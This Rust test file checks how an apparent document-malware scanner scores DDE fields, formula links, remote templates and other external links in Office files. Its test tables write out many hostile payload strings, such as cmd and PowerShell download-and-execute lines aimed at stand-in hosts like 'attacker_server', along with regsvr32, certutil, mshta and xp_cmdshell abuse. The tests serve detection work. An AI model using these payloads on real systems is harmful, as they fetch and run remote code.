//! What links score, and what reports quote of them.

use super::*;
use crate::link::{Technique, Trigger};
use crate::location::Location;
use crate::verdict::Verdict;

fn reading(service: &str, topic: &str, item: &str) -> Reading {
    let some = |text: &str| (!text.is_empty()).then(|| text.to_owned());
    Reading {
        service: some(service),
        topic: some(topic),
        item: some(item),
        resolved: format!("{service}|{topic}!{item}"),
    }
}

fn link(kind: Kind, carrier: Carrier) -> Link {
    Link::new(kind, carrier, Location::root(Some("a.docx")), "raw")
}

fn dde(service: &str, topic: &str, item: &str) -> Finding {
    let mut link = link(Kind::Dde, Carrier::Formula);
    link.readings.push(reading(service, topic, item));
    judge(link, &Policy::default())
}

fn field(service: &str, topic: &str, item: &str) -> Finding {
    let mut link = link(Kind::DdeAuto, Carrier::Field);
    link.trigger = Trigger::Open;
    link.readings.push(reading(service, topic, item));
    judge(link, &Policy::default())
}

fn external(carrier: Carrier, target: &str) -> Finding {
    let mut link = link(Kind::ExternalLink, carrier);
    link.target = Some(target.to_owned());
    judge(link, &Policy::default())
}

fn verdict(finding: &Finding) -> Verdict {
    match finding.score {
        80.. => Verdict::Malicious,
        50.. => Verdict::Suspicious,
        _ => Verdict::Clean,
    }
}

fn image(finding: &Finding) -> &str {
    finding
        .command
        .as_ref()
        .and_then(|command| command.image.as_deref())
        .unwrap_or_default()
}

fn rules(finding: &Finding) -> Vec<&str> {
    finding.signals.iter().map(|signal| signal.rule).collect()
}

/// Spreadsheet specification, section 5.5.
#[test]
fn published_formulas() {
    for (service, topic, item, expected) in [
        ("cmd", "/C calc", "A0", "cmd.exe"),
        ("cmd", " /C calc", "A0", "cmd.exe"),
        ("cmd", " /C notepad", "A1", "cmd.exe"),
        (
            "cmd",
            "/C powershell IEX(wget attacker_server/shell.exe)",
            "A0",
            "cmd.exe",
        ),
        (
            "cmd",
            "/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0",
            "A1",
            "cmd.exe",
        ),
        ("rundll32", "URL.dll,OpenURL calc.exe", "A", "rundll32.exe"),
        (
            "rundll321234567890abcdefghijklmnopqrstuvwxyz",
            "URL.dll,OpenURL calc.exe",
            "A",
            "rundll32.exe",
        ),
        (
            "MSEXCEL",
            "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe",
            "A1",
            "cmd.exe",
        ),
        (
            "MSEXCEL",
            "\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x scrobj.dll",
            "",
            "regsvr32.exe",
        ),
        ("\0C\0\0m\0D\0", "/\0c calc.exe", "A", "cmd.exe"),
        (
            "cmd",
            "/k \\..\\..\\..\\Windows\\System32\\calc.exe",
            "A0",
            "cmd.exe",
        ),
        (
            "C:\\Windows\\System32\\mshta",
            "http://x/a.hta",
            "",
            "mshta.exe",
        ),
    ] {
        let finding = dde(service, topic, item);
        assert_eq!(verdict(&finding), Verdict::Malicious, "{service}|{topic}");
        assert_eq!(image(&finding), expected, "{service}|{topic}");
        assert_eq!(finding.severity, Severity::Critical);
        assert_eq!(finding.attack.first(), Some(&"T1559.002"));
        assert!(finding.attack.contains(&"T1204.002"));
    }
}

/// Word specification, section 0.5, idioms P1 to P6 and P10 (decoded).
#[test]
fn published_fields() {
    let decoy = "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\";
    let cmd = format!("{decoy}cmd.exe");
    let p3 = format!(
        "{decoy}WindowsPowerShell\\v1.0\\powershell.exe -NoP -sta -NonI -W Hidden IEX \
         (New-Object System.Net.WebClient).DownloadString('http://x/a.ps1'); # "
    );
    let p4 = "/k powershell.exe -w hidden $e=(New-Object System.Net.WebClient)\
              .DownloadString('http://x/e.txt');powershell -enc $e ";
    for (service, topic, item, expected) in [
        (
            "c:\\windows\\system32\\cmd.exe",
            "/k calc.exe",
            "",
            "cmd.exe",
        ),
        (&cmd, "/c calc.exe", "for security reasons", "cmd.exe"),
        (
            &p3,
            "Microsoft Document Security Add-On",
            "",
            "powershell.exe",
        ),
        (&cmd, p4, "", "cmd.exe"),
        (
            &cmd,
            "/k regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll ",
            "",
            "cmd.exe",
        ),
        (
            &cmd,
            "/k certutil -urlcache -split -f http://x/a.exe && a.exe",
            "",
            "cmd.exe",
        ),
        (
            "MSEXCEL\\..\\..\\..\\Windows\\System32\\cmd.exe",
            "/c calc",
            "",
            "cmd.exe",
        ),
        ("mshta", "http://x", "", "mshta.exe"),
    ] {
        let finding = field(service, topic, item);
        assert_eq!(verdict(&finding), Verdict::Malicious, "{service} {topic}");
        assert_eq!(image(&finding), expected, "{service} {topic}");
    }

    let p1 = field("c:\\windows\\system32\\cmd.exe", "/k calc.exe", "");
    assert_eq!(
        p1.command.unwrap().line,
        "c:\\windows\\system32\\cmd.exe /k calc.exe"
    );
    assert_eq!(p1.attack, ["T1559.002", "T1059.003", "T1204.002"]);
    assert_eq!(p1.indicators, []);

    let p2 = field(&cmd, "/c calc.exe", "for security reasons");
    let ids: Vec<_> = p2.techniques.iter().map(|technique| technique.id).collect();
    assert_eq!(ids, [TechniqueId::PromptSpoof, TechniqueId::PathTraversal]);
    assert_eq!(
        p2.techniques[1].after.as_deref(),
        Some("c:\\windows\\system32\\cmd.exe")
    );

    let p3 = field(&p3, "Microsoft Document Security Add-On", "");
    let rules = rules(&p3);
    for rule in [
        "interpreter",
        "path-traversal",
        "remote-address",
        "powershell-features",
    ] {
        assert!(rules.contains(&rule), "{rule}");
    }
    assert_eq!(p3.indicators[0].defanged, "hxxp://x/a.ps1");
    assert_eq!(p3.attack, ["T1559.002", "T1059.001", "T1105", "T1204.002"]);

    let p5 = field(
        &cmd,
        "/k regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll ",
        "",
    );
    assert_eq!(
        p5.attack,
        ["T1559.002", "T1059.003", "T1105", "T1204.002", "T1218.010"]
    );
}

/// P7 and P8: what the evaluator joined is judged like the plain text, and noted.
#[test]
fn evaluated_fields() {
    let mut link = link(Kind::Dde, Carrier::Field);
    link.add_technique(TechniqueId::QuoteCodes);
    link.readings
        .push(reading("C:\\windows\\system32\\cmd.exe", "/c calc.exe", ""));
    let finding = judge(link, &Policy::default());
    assert_eq!(rules(&finding), ["interpreter", "evaluated-command"]);
    assert_eq!(finding.score, 100);
    assert!(finding.attack.contains(&"T1027"));
}

/// Word specification, F2, and section 10.1.
#[test]
fn fragments_and_test_programs() {
    assert_eq!(verdict(&field("ünicöde-test", "", "")), Verdict::Clean);
    let cmd = field("cmd", "", "");
    assert_eq!((cmd.score, cmd.severity), (95, Severity::Critical));
    let calc = dde("calc", "x", "y");
    assert_eq!((calc.score, verdict(&calc)), (70, Verdict::Suspicious));
    let net = dde("net", "x", "y");
    assert_eq!((net.score, verdict(&net)), (50, Verdict::Suspicious));
    assert_eq!(
        verdict(&dde("net", "use \\\\h.example\\s", "")),
        Verdict::Malicious
    );
    assert_eq!(
        verdict(&dde("schtasks", "/create /tn x", "")),
        Verdict::Malicious
    );
    assert_eq!(verdict(&dde("foo", "/c x", "y")), Verdict::Suspicious);
}

/// Spreadsheet specification, sections 10.2 and 10.3: legitimate DDE is information.
#[test]
fn feeds_and_peers_are_information() {
    for (service, topic, item) in [
        ("MT4", "BID", "EURUSD"),
        ("MTX", "DATA", "AKBNK.SON"),
        ("IDT", "IMKB", "YKBNK.IS,GLOT,1,0,2,"),
        ("BLP", "M", "INDU Index,[PX_close_5d]"),
        ("REUTER", "IDN", "EUR=,BID"),
        ("IDN_SELECTFEED", "IDN", "NGH2,PRIM ACT 1,1"),
        ("ProfDDE", "Live", "x"),
        ("T4Screen", "MKT_1", "x"),
        ("VTS", "Display", "TagName\\Variable"),
        ("View", "tagname", "x"),
        ("RSLinx", "channel", "N7:0,L1,C1"),
        ("ssample", "tik", "id1"),
        ("TWSDDE", "tik", "id1"),
        ("TOS", "LAST", "MSFT"),
        ("Excel", "[Book1.xlsx]Sheet1", "R1C1"),
        ("Excel", "System", "Topics"),
        ("Excel", "C:\\My Data\\book.xls", "Sheet1!R1C1"),
        ("Excel", "C:\\data\\[book.xls]Sheet1", "R1C1"),
        ("Excel.Sheet.12", "C:\\data\\book.xlsx", "Sheet1!R1C1:R2C2"),
        ("WinWord", "C:\\letters\\a.doc", "DDE_LINK1"),
        ("Word.Document.8", "C:\\letters\\a.doc", "OLE_LINK1"),
        ("MSAccess", "C:\\db.mdb;TABLE Orders", "All"),
        ("soffice", "/home/a/b.ods", "Sheet1.A1"),
        ("progman", "progman", "groups"),
    ] {
        let finding = dde(service, topic, item);
        assert_eq!(
            (finding.score, finding.severity),
            (0, Severity::Info),
            "{service}|{topic}"
        );
        assert_eq!(finding.attack, [""; 0], "{service}|{topic}");
    }
    let mut feed = link(Kind::DdeAuto, Carrier::DdeLinkPart);
    feed.siblings = 3;
    feed.readings.push(reading("MyFeed", "quotes", "EURUSD"));
    let feed = judge(feed, &Policy::default());
    assert_eq!((feed.score, feed.severity), (10, Severity::Info));
    assert_eq!(
        dde("Excel", "\\\\server\\share\\book.xls", "R1C1").score,
        15
    );
    assert_eq!(verdict(&dde("MyServer", "topic", "item")), Verdict::Clean);
    assert_eq!(
        verdict(&dde("Excel", "..\\..\\data\\prices.xlsx", "R1C1")),
        Verdict::Clean
    );
    assert_eq!(
        verdict(&dde("Excel", "..\\..\\x\\y", "R1C1")),
        Verdict::Malicious
    );
}

/// Section 10.2: the allow list never rescues a dangerous topic.
#[test]
fn known_servers_do_not_rescue() {
    for (service, topic) in [
        ("MT4", "/c powershell -enc AAAA"),
        ("BLP", "\\..\\..\\x\\y"),
        ("Excel", "cmd.exe /c calc"),
        ("progman", "C:\\x\\evil.exe"),
    ] {
        assert!(dde(service, topic, "").score >= 60, "{service}|{topic}");
    }
}

/// Word specification, sections 1.7, 6.1 to 6.4.
#[test]
fn external_links() {
    use Carrier::*;
    use Verdict::*;
    for (carrier, target, expected, severity) in [
        (
            RemoteTemplate,
            "http://x/t.dotm",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "https://x/t.dot",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\10.1.2.3\\s\\t.dotm",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\server\\templates\\t.dotm",
            Clean,
            Severity::Medium,
        ),
        (
            RemoteTemplate,
            "C:\\Users\\a\\Templates\\x.dotm",
            Clean,
            Severity::Info,
        ),
        (RemoteTemplate, "Normal.dotm", Clean, Severity::Info),
        (
            RemoteTemplate,
            "\\??\\UNC\\example.invalid\\s\\t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\;LanmanRedirector\\example.invalid\\s\\t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "ms-word:ofe|u|http://example.invalid/t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "url:http://example.invalid/t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "data:application/msword;base64,AAAA",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "file://localhost@80/t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\127.0.0.1@80\\t",
            Suspicious,
            Severity::High,
        ),
        (
            Hyperlink,
            "ms-excel:ofe|u|https://example.com/x.xlsx",
            Clean,
            Severity::Info,
        ),
        (
            Hyperlink,
            "http://example.com/search?q=mhtml:x!x-usc:",
            Clean,
            Severity::Info,
        ),
        (
            Hyperlink,
            "C:\\Program Files\\App\\app.exe",
            Clean,
            Severity::Info,
        ),
        (Hyperlink, "search-ms:query=foo", Clean, Severity::Info),
        (Frame, "http://x/p.docx", Suspicious, Severity::High),
        (OleLink, "http://x/a.doc", Suspicious, Severity::High),
        (
            OleLink,
            "file:///C:\\data\\book.xlsx!Sheet1!R1C1",
            Clean,
            Severity::Info,
        ),
        (
            OleLink,
            "mhtml:http://h/x.html!x-usc:http://h/x.html",
            Malicious,
            Severity::Critical,
        ),
        (
            OleLink,
            "https://h/RDF842l.html!",
            Malicious,
            Severity::Critical,
        ),
        (
            OleLink,
            "ms-msdt:/id PCWDiagnostic",
            Malicious,
            Severity::Critical,
        ),
        (
            OleLink,
            "script:http://x/a.sct",
            Malicious,
            Severity::Critical,
        ),
        (SubDocument, "ftp://x/a.docx", Suspicious, Severity::High),
        (AltChunk, "https://x/a.rtf", Suspicious, Severity::High),
        (LinkField, "http://x/a.doc", Suspicious, Severity::High),
        (IncludeText, "\\\\host\\s\\a.docx", Clean, Severity::Medium),
        (
            IncludeText,
            "\\\\h.example\\s\\a.docx",
            Suspicious,
            Severity::High,
        ),
        (IncludePicture, "http://x/u.png", Clean, Severity::Low),
        (
            ExternalWorkbook,
            "https://x/a.xlsx",
            Clean,
            Severity::Medium,
        ),
        (
            ExternalWorkbook,
            "\\\\server\\s\\a.xlsx",
            Clean,
            Severity::Medium,
        ),
        (ExternalWorkbook, "a.xlsx", Clean, Severity::Info),
        (Hyperlink, "https://example.com", Clean, Severity::Info),
        (Hyperlink, "http://1.2.3.4/a.exe", Clean, Severity::Info),
        (
            Hyperlink,
            "mailto:a@b.example?subject=x",
            Clean,
            Severity::Info,
        ),
        (Hyperlink, "javascript:void(0)", Clean, Severity::Info),
        (Hyperlink, "www.example.com", Clean, Severity::Info),
        (Hyperlink, "#Sheet1!A1", Clean, Severity::Info),
        (Hyperlink, "../contracts/annex 1.pdf", Clean, Severity::Info),
        (Hyperlink, "\\\\server\\share\\a.docx", Clean, Severity::Low),
        (Hyperlink, "file://a.example/s/a.docx", Clean, Severity::Low),
        (
            Hyperlink,
            "search-ms:query=a&crumb=location:\\\\x\\s",
            Suspicious,
            Severity::High,
        ),
        (Hyperlink, "ms-officecmd:x", Suspicious, Severity::High),
        (Hyperlink, "vbscript:x", Suspicious, Severity::High),
        (
            Hyperlink,
            "..\\..\\windows\\system32\\cmd.exe",
            Suspicious,
            Severity::High,
        ),
        (MailMerge, "http://x/b.xls", Suspicious, Severity::High),
        (MailMerge, "C:\\b.xls", Clean, Severity::Info),
        (WebQuery, "http://x.example/x.dat", Clean, Severity::Medium),
        (WebQuery, "http://1.2.3.4/x.dat", Suspicious, Severity::High),
        (
            Connection,
            "OLEDB;Provider=SQLOLEDB;Data Source=srv",
            Clean,
            Severity::Info,
        ),
        (
            Connection,
            "EXEC master..xp_cmdshell 'powershell'",
            Malicious,
            Severity::Critical,
        ),
        (
            DatabaseField,
            "DSN=x;DBQ=\\\\h\\s\\a.mdb",
            Suspicious,
            Severity::High,
        ),
        (
            DatabaseField,
            "DSN=x;DBQ=C:\\data\\a.mdb",
            Clean,
            Severity::Info,
        ),
        (
            Function,
            "WEBSERVICE(\"http://x/?\"&A1)",
            Clean,
            Severity::Medium,
        ),
        (
            Function,
            "RTD(\"bloomberg.rtd\",\"\",\"x\")",
            Clean,
            Severity::Info,
        ),
        (MacroButton, "NoMacro", Clean, Severity::Info),
    ] {
        let finding = external(carrier, target);
        assert_eq!(
            (verdict(&finding), finding.severity),
            (expected, severity),
            "{carrier:?} {target} {:?}",
            rules(&finding)
        );
    }
    let template = external(RemoteTemplate, "http://x.y/t.dotm");
    assert_eq!(template.attack, ["T1204.002", "T1221"]);
    assert_eq!(template.indicators[0].defanged, "hxxp://x[.]y/t.dotm");
    assert_eq!(template.command, None);
}

/// Spreadsheet specification, sections 1.5 and 1.6: the target is the server or the first
/// argument, the command and the function stand in the text around it.
#[test]
fn what_stands_beside_the_target() {
    let of = |carrier, target: &str, raw: &str, trigger| {
        let mut link = link(Kind::ExternalLink, carrier);
        link.target = Some(target.to_owned());
        link.raw = raw.to_owned();
        link.trigger = trigger;
        judge(link, &Policy::default())
    };
    for (target, raw) in [
        (
            "10.1.1.1",
            "connection=\"DRIVER=SQL;SERVER=10.1.1.1\" command=\"EXEC xp_cmdshell 'calc'\"",
        ),
        ("C:\\a.mdb", "command=\"SELECT Shell('cmd /c calc')\""),
        ("C:\\a.mdb", "command=\"SELECT Shell ('calc.exe')\""),
        (
            "x",
            "connection=\"SERVER=x;APP=powershell -enc aaaa\" serverCommand=\"EXEC master..xp_cmdshell 'calc'\"",
        ),
    ] {
        let query = of(Carrier::Connection, target, raw, Trigger::Update);
        assert_eq!(query.score, 85, "{raw}");
    }
    let address = "http://example.invalid/a";
    for (target, raw) in [
        (address, "_xlfn.WEBSERVICE(\"http://example.invalid/a\"&A1)"),
        (address, "_xlfn.IMAGE(\"http://example.invalid/a\")"),
        (
            "\\\\10.0.0.9\\s\\a.png",
            "IMAGE(\"\\\\10.0.0.9\\s\\a.png\")",
        ),
    ] {
        let function = of(Carrier::Function, target, raw, Trigger::Update);
        assert_eq!(rules(&function), ["fetching-function"], "{raw}");
        assert_eq!((function.score, function.severity), (40, Severity::Medium));
        assert!(function.signals[0].evidence.ends_with(target), "{raw}");
    }
    let raw = "HYPERLINK(\"http://example.invalid/a\",\"x\")";
    let click = of(Carrier::Function, address, raw, Trigger::Click);
    assert_eq!(rules(&click), ["ordinary-hyperlink"]);
    let raw = "HYPERLINK(\"\\\\server\\s\\a.docx\")";
    let click = of(
        Carrier::Function,
        "\\\\server\\s\\a.docx",
        raw,
        Trigger::Click,
    );
    assert_eq!(click.score, 25);
    let server = of(
        Carrier::Function,
        "tos.rtd",
        "RTD(\"tos.rtd\",,\"LAST\")",
        Trigger::Update,
    );
    assert!(server.score < 11);
}

/// Spreadsheet specification, sections 10.2 to 10.4.
#[test]
fn topics_that_are_commands_or_places() {
    for (service, topic, score) in [
        ("finger", "user@host", 85),
        ("csi", "a.csx", 85),
        ("te", "x.xml", 85),
        ("hh", "mk:@MSITStore:x", 95),
        ("BLP", "http://example.invalid/x", 75),
        ("foo", "http://example.invalid/a", 75),
        ("foo", "\\\\10.0.0.1\\s", 75),
        ("BLP", "M & calc", 60),
        ("BLP", "calc", 60),
        ("winword", "[DocClose]", 25),
        ("winword", "http://example.invalid/x.doc", 60),
        ("Word.Document.8", "\\\\example.invalid\\x.docm", 60),
        ("excel", "\\\\10.0.0.1\\s\\x.xlsm", 60),
        ("excel", "\\\\server\\s\\x.xlsm", 15),
        ("a.docx.lnk", "x", 60),
        ("evil.bat", "", 60),
        ("excel", "C:\\Windows\\System32\\cmd.exe", 95),
        ("MSEXCEL", "\\Windows\\System32\\cmd /c calc", 100),
        (
            "MSEXCEL",
            "x\\..\\..\\Windows\\System32\\cmd.exe /c calc",
            100,
        ),
        ("Excel", "[OPEN(\"http://x\")]", 40),
        ("Excel", "[Book1.xlsx]Sheet1", 0),
        ("Excel", "C:\\a b\\[x.xlsx]S", 0),
        ("\\\\SERVER\\NDDE$", "Chart$", 25),
        ("\\\\SERVER\\NDDE$", "M & calc", 60),
        ("\\\\SERVER\\cmd.exe", "Chart$", 100),
    ] {
        let finding = dde(service, topic, "AAPL US Equity,[BID]");
        assert_eq!(
            finding.score,
            score,
            "{service}|{topic} {:?}",
            rules(&finding)
        );
        let spoof = finding
            .techniques
            .iter()
            .any(|found| found.id == TechniqueId::PromptSpoof);
        assert!(!spoof, "{service}|{topic}");
    }
}

/// Section 1.5: what `DDE(A1,B1,C1)` and `INITIATE(A1,…)` start, only the cells know.
#[test]
fn calls_with_an_unknown_service() {
    let of = |carrier, service: &str, topic: &str| {
        let mut link = link(Kind::Dde, carrier);
        link.add_technique(TechniqueId::Unresolved);
        link.readings.push(reading(service, topic, ""));
        judge(link, &Policy::default())
    };
    for carrier in [Carrier::Formula, Carrier::Xlm] {
        for service in ["<expr>", "c<expr>"] {
            let finding = of(carrier, service, "<expr>");
            assert_eq!(rules(&finding), ["unresolved-service"], "{service}");
            assert_eq!(
                (finding.score, verdict(&finding)),
                (60, Verdict::Suspicious)
            );
        }
    }
    assert_eq!(of(Carrier::Formula, "", "").score, 60);
    assert_eq!(of(Carrier::Xlm, "", "x").score, 60);
    assert_eq!(
        verdict(&of(Carrier::Formula, "soffice", "<expr>")),
        Verdict::Clean
    );
    assert_eq!(
        verdict(&of(Carrier::Formula, "MT4", "<expr>")),
        Verdict::Clean
    );
    assert_eq!(
        verdict(&of(Carrier::Formula, "cmd", "<expr>")),
        Verdict::Malicious
    );
    // Word specification, section 6.1: data that decide what a field starts.
    let merge = of(Carrier::Field, "\u{27e6}MERGEFIELD x\u{27e7}", "y");
    assert_eq!(
        (merge.score, rules(&merge)),
        (60, vec!["unresolved-service"])
    );
    // A command on a channel that another call opened.
    assert_eq!(verdict(&of(Carrier::Xlm, "", "")), Verdict::Clean);
}

/// Word specification, section 6.1: an address that carries the reader's name.
#[test]
fn addresses_with_data_of_the_reader() {
    let finding = external(
        Carrier::IncludePicture,
        "http://x/\u{27e6}USERNAME\u{27e7}.png",
    );
    assert_eq!(rules(&finding), ["remote-picture", "document-data"]);
    assert_eq!((finding.score, finding.severity), (39, Severity::Medium));
}

#[test]
fn the_shape_of_an_archive_is_information() {
    let mut odd = link(Kind::Anomaly, Carrier::Container);
    odd.add_technique(TechniqueId::ZipDuplicateName);
    for policy in [
        Policy::default(),
        Policy::default().weight("container-anomaly", 90).unwrap(),
    ] {
        let finding = judge(odd.clone(), &policy);
        assert_eq!(finding.severity, Severity::Info);
        assert_eq!(finding.attack, [""; 0]);
    }
}

#[test]
fn remote_places_behind_the_verbatim_prefix() {
    let workbook = external(
        Carrier::ExternalWorkbook,
        "file:///\\\\?\\UNC\\10.0.0.9\\s\\a.xlsx",
    );
    assert_eq!(rules(&workbook), ["remote-workbook"]);
    assert_eq!(
        workbook.indicators[0].defanged,
        "\\\\10[.]0[.]0[.]9\\s\\a.xlsx"
    );
}

#[test]
fn classes_of_links() {
    let of = |class: &str, target: &str| {
        let mut link = link(Kind::ExternalLink, Carrier::LinkField);
        link.prog_id = Some(class.to_owned());
        link.target = Some(target.to_owned());
        judge(link, &Policy::default())
    };
    assert_eq!(
        verdict(&of("htmlfile", "http://h/x.html")),
        Verdict::Malicious
    );
    assert_eq!(
        verdict(&of("Word.Document.8", "http://x/a.doc")),
        Verdict::Suspicious
    );
    assert_eq!(
        verdict(&of("Package", "C:\\x\\evil.exe")),
        Verdict::Suspicious
    );
    assert_eq!(
        verdict(&of("Excel.Sheet.12", "C:\\a b\\c.xlsx")),
        Verdict::Clean
    );
    assert_eq!(verdict(&of("cmd", "/c calc")), Verdict::Malicious);
    assert_eq!(
        verdict(&of("c:\\windows\\system32\\cmd.exe", "/k calc")),
        Verdict::Malicious
    );
    for (class, target) in [
        ("Excel.Sheet.12", "..\\..\\windows\\system32\\calc.exe"),
        ("c:\\x\\evil.exe", "/k calc"),
        ("scriptletfile", "c:\\x.sct"),
        ("htafile", "c:\\x.hta"),
        ("htmlfile", "c:\\x.html"),
    ] {
        let finding = of(class, target);
        assert_eq!(verdict(&finding), Verdict::Suspicious, "{class} {target}");
    }
}

#[test]
fn what_starts_without_dde() {
    let of = |carrier, target: &str| {
        let mut link = link(Kind::Execute, carrier);
        link.target = Some(target.to_owned());
        judge(link, &Policy::default())
    };
    let action = of(Carrier::Action, "powershell%20-NoP%20-c%20iex");
    assert_eq!(
        (verdict(&action), image(&action)),
        (Verdict::Malicious, "powershell.exe")
    );
    assert!(!action.attack.contains(&"T1559.002"));
    assert_eq!(action.attack, ["T1059.001", "T1204.002"]);
    let exec = of(Carrier::Xlm, "EXEC(\"mshta http://x.y/a.hta\")");
    assert_eq!(
        (verdict(&exec), image(&exec)),
        (Verdict::Malicious, "mshta.exe")
    );
    let call = of(
        Carrier::Xlm,
        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/a\",\"C:\\a.exe\")",
    );
    assert_eq!(verdict(&call), Verdict::Malicious);
    assert_eq!(
        verdict(&of(Carrier::OlePackage, "evil.lnk")),
        Verdict::Suspicious
    );
}

#[test]
fn the_worst_reading_counts() {
    let mut link = link(Kind::DdeAuto, Carrier::Field);
    link.readings
        .push(reading("c:windowssystem32cmd.exe", "/k", ""));
    link.readings
        .push(reading("c:\\windows\\system32\\cmd.exe", "/k", ""));
    link.readings
        .push(reading("c:\\windows\\system32\\cmd.exe", "/k", ""));
    let finding = judge(link, &Policy::default());
    assert_eq!(
        finding.service.as_deref(),
        Some("c:\\windows\\system32\\cmd.exe")
    );
    assert_eq!(finding.confidence, Confidence::Medium);
    assert_eq!(finding.alternatives.len(), 1);
    assert_eq!(
        finding.alternatives[0].service.as_deref(),
        Some("c:windowssystem32cmd.exe")
    );
}

#[test]
fn equal_readings_keep_their_order() {
    let mut link = link(Kind::DdeAuto, Carrier::Field);
    link.readings.push(reading("cmd", "/c a", ""));
    link.readings.push(reading("cmd", "/c b", ""));
    let finding = judge(link, &Policy::default());
    assert_eq!(finding.topic.as_deref(), Some("/c a"));
    assert_eq!(finding.confidence, Confidence::Certain);
}

#[test]
fn circumstances() {
    let with = |id: TechniqueId| {
        let mut link = link(Kind::Dde, Carrier::Formula);
        link.add_technique(id);
        link.readings.push(reading("schtasks", "x", ""));
        judge(link, &Policy::default())
    };
    assert_eq!(with(TechniqueId::HiddenSheet).score, 95);
    assert_eq!(with(TechniqueId::RecalculateOnLoad).score, 90);
    assert_eq!(with(TechniqueId::Unreachable).score, 70);
    let locked = with(TechniqueId::Locked);
    assert_eq!((locked.score, locked.severity), (85, Severity::High));

    let mut inert = link(Kind::Inert, Carrier::Formula);
    inert.readings.push(reading("cmd", "/c calc", "A0"));
    let inert = judge(inert, &Policy::default());
    assert_eq!((inert.score, inert.severity), (10, Severity::Info));
    assert_eq!(inert.attack, [""; 0]);

    let mut low = link(Kind::Dde, Carrier::Formula);
    low.confidence = Confidence::Low;
    low.readings.push(reading("cmd", "/c calc", "A0"));
    assert_eq!(judge(low, &Policy::default()).score, 70);
    let mut low = link(Kind::Dde, Carrier::Formula);
    low.confidence = Confidence::Low;
    low.readings.push(reading("foo", "bar.exe", "A0"));
    assert_eq!(verdict(&judge(low, &Policy::default())), Verdict::Clean);
}

/// Design page, law 10.
#[test]
fn a_policy_never_hides_a_finding() {
    let judged = |policy: &Policy| {
        let mut link = link(Kind::Dde, Carrier::Formula);
        link.readings.push(reading("cmd", "/c calc", "A0"));
        judge(link, policy)
    };
    let plain = judged(&Policy::default());
    assert_eq!(plain.score, 95);
    let disabled = judged(&Policy::default().disable("interpreter").unwrap());
    assert_eq!(disabled.score, 50);
    assert!(!rules(&disabled).contains(&"interpreter"));
    let lowered = judged(&Policy::default().weight("interpreter", -7).unwrap());
    assert_eq!(lowered.score, 50);
    let allowed = judged(&Policy::default().allow(plain.fingerprint.clone()));
    assert_eq!((allowed.allowed, allowed.score), (true, 95));
    assert!(!plain.allowed);
}

#[test]
fn fingerprints_follow_the_link() {
    let plain = dde("cmd", "/c calc", "A0");
    assert_eq!(plain.fingerprint.len(), 32);
    assert!(
        plain
            .fingerprint
            .chars()
            .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
    );
    let mut elsewhere = link(Kind::Dde, Carrier::DdeLinkPart);
    elsewhere.location = Location::root(Some("b.xlsx")).child("x");
    elsewhere.readings.push(reading("CMD", "/c calc", "A0"));
    assert_eq!(
        judge(elsewhere, &Policy::default()).fingerprint,
        plain.fingerprint
    );
    // Lengths stand in front: moving a letter over a border is another link.
    assert_ne!(dde("cmd", "/c calcA", "0").fingerprint, plain.fingerprint);
    assert_ne!(dde("cmd", "/c calc", "").fingerprint, plain.fingerprint);
    assert_ne!(field("cmd", "/c calc", "A0").fingerprint, plain.fingerprint);
}

#[test]
fn long_text_is_judged_in_full_and_quoted_in_part() {
    let topic = format!("{} & powershell -enc AAAA", "x ".repeat(10_000));
    let finding = dde("foo", &topic, &"i".repeat(2_000));
    assert_eq!(verdict(&finding), Verdict::Suspicious);
    assert!(finding.topic.unwrap().ends_with("…[+11831]"));
    assert!(finding.item.unwrap().ends_with("…[+976]"));
    assert!(finding.command.unwrap().line.chars().count() < 9_300);
    assert!(
        finding
            .signals
            .iter()
            .all(|signal| signal.evidence.chars().count() < 220)
    );
}

#[test]
fn many_words_take_linear_time() {
    let topic = "a \\..\\ http://h/ ^x %y% \"\" cmd ".repeat(10_000);
    let finding = dde(&topic, &topic, &topic);
    assert_eq!(verdict(&finding), Verdict::Malicious);
    let service = "a a/a\\a -a ".repeat(10_000);
    assert!(dde(&service, "", "").score > 0);
}

/// Every pair of awkward texts is judged, in every role, without a panic.
#[test]
fn awkward_text_is_data() {
    let texts = [
        "",
        " ",
        "\\",
        "\\\\",
        "/",
        "//",
        "..",
        "..\\",
        "\\..",
        "\"",
        "\"\"",
        "'",
        "%",
        "%%",
        "%2",
        "%e4",
        "%zz",
        "!",
        "a!",
        "!x-usc:",
        ":",
        "a:",
        "c:",
        "c:é",
        "é:",
        "\\\\é",
        "\\\\.\\",
        "\\\\?\\",
        "\\\\?\\unc\\",
        "http:",
        "http://",
        "http://[",
        "http://@",
        "http://a@b@c",
        "file:",
        "file:///",
        "file:///é",
        "mhtml:",
        "script:",
        "@",
        "^",
        "^^",
        "\0",
        "\u{202e}",
        "\u{ff0f}",
        "İ",
        "ﬀ",
        "K",
        "CALL(",
        "EXEC(\"",
        "=EXEC()",
        "-",
        "/c",
        " /",
        "x /",
        "\u{3000}cmd",
        "cmd\u{a0}/c",
        "…",
        "a\u{301}.exe",
        ".exe",
        "..exe",
        ".",
    ];
    let carriers = [
        Carrier::Field,
        Carrier::OleLink,
        Carrier::Hyperlink,
        Carrier::Connection,
        Carrier::Xlm,
    ];
    for kind in [
        Kind::Dde,
        Kind::Execute,
        Kind::ExternalLink,
        Kind::Inert,
        Kind::Anomaly,
    ] {
        for carrier in carriers {
            for (first, second) in texts.iter().flat_map(|a| texts.iter().map(move |b| (a, b))) {
                let mut link = link(kind, carrier);
